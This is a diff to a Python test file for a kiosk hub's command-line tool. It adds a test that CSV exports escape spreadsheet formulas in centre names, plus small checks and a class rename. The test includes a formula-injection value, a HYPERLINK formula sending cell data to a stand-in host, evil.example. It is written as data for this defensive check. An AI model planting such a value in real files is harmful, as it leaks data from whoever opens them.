@@ -204,6 +204,31 @@ def test_raw_csv_and_filters(hub, capsys):
     assert rc == 0 and out == BOM + ",".join(reports.RAW_COLUMNS) + "\r\n"
 
 
+# Centre names come from `kiosk-hub enrol-code --centre`, typed by whoever enrols a terminal:
+# a spreadsheet must not run one as a formula when an admin opens the export.
+FORMULA_CENTRE = '=HYPERLINK("http://evil.example/?"&A1,"Brixton")'
+
+
+def test_csv_export_cells_cannot_be_formulas(hub, capsys):
+    flags, store = hub
+    for centre in (FORMULA_CENTRE, "@SUM(A1:A9)", "+44 20 7946 0000", "-1+2"):
+        store.ingest("f", centre, session(ts("2025-01-06 12:00"), "en", 30))
+    rc, out, _ = run(capsys, "export", *flags, "--from", "2025-01-06", "--to", "2025-01-06",
+                     "--no-suppress")
+    assert rc == 0
+    rows = list(csv.reader(io.StringIO(out[1:])))
+    centres = [row[2] for row in rows if row[0] == "sessions_by_centre"]
+    assert sorted(centres) == sorted([BRIXTON, EALING, "'" + FORMULA_CENTRE, "'@SUM(A1:A9)",
+                                      "'+44 20 7946 0000", "'-1+2"])
+    assert not any(cell[:1] in ("=", "+", "@") for row in rows for cell in row)
+    # the raw events' CSV goes through the same writer
+    rc, out, _ = run(capsys, "export", *flags, "--raw", "--centre", FORMULA_CENTRE)
+    rows = list(csv.DictReader(io.StringIO(out[1:])))
+    assert rc == 0 and len(rows) == 3
+    assert {r["centre"] for r in rows} == {"'" + FORMULA_CENTRE}
+    assert {r["hour_of_week"] for r in rows} == {"12"}  # numbers stay numbers
+
+
 def test_help_says_raw_is_unsuppressed(capsys):
     with pytest.raises(SystemExit):
         hub_cli.main(["export", "--help"])
@@ -243,6 +268,8 @@ def test_admin_user_create_and_reset(hub, capsys, monkeypatch):
     rc, out, err = run(capsys, "admin-user", *flags, "alice", "--password-stdin")
     assert (rc, out, err) == (0, "admin alice: created\n", "")
     assert auth.verify_login(store.engine, "alice", "correct horse battery staple")
+    assert auth.admin_exists(store.engine, " alice ") and not auth.admin_exists(store.engine,
+                                                                                "bob")
     with store.engine.connect() as c:
         stored = c.execute(sa.select(admin_users.c.password_hash)).scalar_one()
     assert stored.startswith("$argon2id$") and "staple" not in stored
@@ -301,7 +328,7 @@ def test_titles_come_from_the_published_pack(hub, capsys, tmp_path):
 
     from kiosk.core import packs
     from kiosk.core.settings import DEFAULT_CONTENT_DIR
-    from kiosk.hub.store import ContentStore
+    from kiosk.hub.store import PublishedPacks
 
     flags, _ = hub
     src = tmp_path / "content"
@@ -312,7 +339,7 @@ def test_titles_come_from_the_published_pack(hub, capsys, tmp_path):
     path.write_text(json.dumps(item, ensure_ascii=False), encoding="utf-8")
     key, pub = packs.generate_keypair(tmp_path / "keys")
     packs.build(src, tmp_path / "pack", packs.load_secret_key(key), 3)
-    ContentStore(tmp_path / "data").publish(tmp_path / "pack", packs.load_trusted_keys(pub))
+    PublishedPacks(tmp_path / "data").publish(tmp_path / "pack", packs.load_trusted_keys(pub))
     rc, out, _ = run(capsys, "export", "--format", "json", "--from", "2025-01-06", "--to",
                      "2025-01-06", "--no-suppress", *flags)
     assert rc == 0
